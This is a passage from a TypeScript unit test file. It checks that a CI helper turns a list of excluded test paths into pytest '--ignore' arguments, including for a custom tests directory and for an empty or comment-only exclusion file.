  ])('ignores what the TypeScript parser reads from a file in %s', (_, text) => {
    const ignores = buildPytestIgnoreArgs(SOURCE, parseTestExclusions(text));

    expect(ignores).toEqual([
      '--ignore=tests/unit/sources/alpha/test_needs_credentials.py',
      '--ignore=tests/unit/sources/alpha/slow/',
      '--ignore=tests/unit/sources/alpha/test_last_line.py',
    ]);
    for (const { jobId, args } of pytestArgs(text)) expect(args, jobId).toEqual(expected(ignores));
  });

  it('runs the tests of the tests_dir input, and ignores the exclusions under it', () => {
    const layout = { ...DEFAULT_LAYOUT, tests: 'connectors/tests' };
    const text = [
      'connectors/tests/alpha/test_needs_credentials.py',
      'tests/unit/sources/alpha/test_upstream_path.py',
      'connectors/tests/beta/test_other.py',
    ].join('\n');
    const ignores = buildPytestIgnoreArgs(SOURCE, parseTestExclusions(text), layout);

    expect(ignores).toEqual(['--ignore=connectors/tests/alpha/test_needs_credentials.py']);
    for (const { jobId, args } of pytestArgs(text, { tests_dir: layout.tests }))
      expect(args, jobId).toEqual(expected(ignores, layout.tests));
  });

  it('ignores nothing without the file or with only comments', () => {
    for (const text of [null, '# nothing excluded\n\n']) {
      for (const { jobId, args } of pytestArgs(text)) expect(args, jobId).toEqual(expected([]));
    }
  });
});
